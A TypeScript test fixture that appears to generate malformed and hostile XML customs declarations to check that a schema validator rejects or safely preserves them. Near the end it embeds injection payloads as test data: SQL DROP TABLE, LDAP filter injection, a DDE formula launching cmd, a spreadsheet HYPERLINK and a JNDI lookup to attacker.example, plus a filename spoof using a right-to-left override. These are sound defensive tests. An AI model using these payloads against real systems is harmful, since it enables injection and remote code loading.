/** Hostile documents by kind of structure and value, each made from a right declaration. */
import { changed, right, table, type Hostile } from './hostile-syntax.ts'

const description = /Ceramic tiles[^<]*/
const item = /<ConsignmentItem>.*?<\/ConsignmentItem>/.exec(right)![0]

/** A value in the place of another, wrong by its format. */
const wrong = (kind: string, from: string | RegExp, to: string): Hostile => ({
  kind,
  bytes: () => changed(from, to),
  expected: 'findings',
})

const amounts = [
  '1'.repeat(20),
  '1e3',
  '1E3',
  'NaN',
  'INF',
  '-INF',
  '1,5',
  '-1',
  '+1',
  '0x10',
  '1.',
  '.5',
  '١٢',
  '1 000',
]
const days = ['0000-01-01', '2026-02-30', '2026-13-01', '2026-00-00', '99999-01-01', '2026-02-28T00:00:00', '0', '']

/** What the schema refuses. */
export const wrongKinds: readonly Hostile[] = [
  wrong('an unknown element', '</messageSender>', '</messageSender><unknown>1</unknown>'),
  wrong('an element called __proto__', '</messageSender>', '</messageSender><__proto__>1</__proto__>'),
  wrong('an element called constructor', '</messageSender>', '</messageSender><constructor>1</constructor>'),
  {
    kind: 'another namespace',
    bytes: () => changed('http://ncts.dgtaxud.ec', 'http://ncts.dgtaxud.eu'),
    expected: 'root',
  },
  { kind: 'no namespace', bytes: () => changed(/ncts:|xmlns:ncts="[^"]*"/g, ''), expected: 'root' },
  wrong('another version', /PhaseID="[^"]*"/, 'PhaseID="NCTS9.9"'),
  wrong('an element in the namespace of the root', /(<\/?)limitDate/g, '$1ncts:limitDate'),
  ...amounts.map((value) => wrong(`an amount of ${value}`, '>18250.5<', `>${value}<`)),
  ...days.map((value) => wrong(`a day ${value}`, '>2026-12-01<', `>${value}<`)),
  wrong('a negative mass', '<netMass>8.75', '<netMass>-8.75'),
  wrong('a text one character too long', description, 'x'.repeat(513)),
  wrong('a text one character too short', '>A1B2<', '>A1B<'),
  wrong('a number one digit too long', '>690721<', '>6907210<'),
  wrong('a number one above its range', '<declarationGoodsItemNumber>1<', '<declarationGoodsItemNumber>2000<'),
  wrong('a number one below its range', '<declarationGoodsItemNumber>1<', '<declarationGoodsItemNumber>0<'),
  wrong('a decimal too many', '<grossMass>9.125<', '<grossMass>9.1250001<'),
  wrong('a date-time with a zone', '>2026-11-24T14:00:00<', '>2026-11-24T14:00:00Z<'),
  {
    kind: 'a formula, a script and a statement in every field',
    bytes: () =>
      changed(/.*/s, right.replaceAll(/>[^<>]+</g, `>=cmd|'/C calc'!A0 '; DROP TABLE movement; -- &lt;script&gt;<`)),
    expected: 'findings',
  },
  wrong('999 items and one', item, item.repeat(999)),
  wrong('an optional element that is empty', '</LRN>', '</LRN><TIRCarnetNumber></TIRCarnetNumber>'),
  wrong('an LRN of spaces', '>BENCH-2026-0000001<', '>   <'),
  wrong('an LRN with a space before it', '>BENCH-2026-0000001<', '> BENCH-2026-0000001<'),
  wrong('ten thousand combining marks', description, `a${'\u0301'.repeat(10_000)}`),
  wrong('a country in full-width letters', '<nationality>AL<', '<nationality>ＡＬ<'),
  wrong('a currency with a Cyrillic letter', '>EUR<', '>EUЯ<'),
  wrong('an office reference with a line break', '>AL000101<', '>AL0001\n01<'),
]

/** Texts that other programs trip over; a text of 512 characters may be any of them, so the schema refuses none. */
const texts = {
  SQL: `'; DROP TABLE movements; --`,
  LDAP: '*)(uid=*))(|(uid=*',
  'a formula': '=HYPERLINK("http://attacker.example";"x")',
  HTML: '<script>alert(1)</script>',
  'an escape sequence': '%0d%0aSet-Cookie: x=1 \\u0000 ${jndi:ldap://attacker.example}',
  'a right-to-left override': 'invoice\u202Egnp.exe',
  'other directions': '\u2067\u2066\u200F\u200E',
  emoji: '👩‍👩‍👧‍👦 🇦🇱',
  'composed and decomposed': 'é e\u0301',
  'look-alikes': 'АА123ВВ',
  'beyond the basic plane': '𝕏'.repeat(512),
  'zero width': 'a\u200Bb\u2060c\uFEFFd',
  noncharacters: '\uFDD0\u{1FFFE}',
  'a line break': 'a\u2028b\u0085c',
}

/** What the schema does not refuse, with the value that must come out exactly as it went in. */
export const rightTexts: readonly { kind: string; value: string; bytes: () => Uint8Array }[] = Object.entries(
  texts,
).map(([kind, value]) => ({
  kind,
  value,
  bytes: () => changed(description, value.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;')),
}))

/** Values of a document under the names that it was read with. */
export function descriptionIn(bytes: Uint8Array): unknown {
  const { document } = table.read(bytes)
  const consignment = document?.['Consignment'] as {
    HouseConsignment: { ConsignmentItem: { Commodity: { descriptionOfGoods: string } }[] }[]
  }
  return consignment.HouseConsignment[0]!.ConsignmentItem[0]!.Commodity.descriptionOfGoods
}
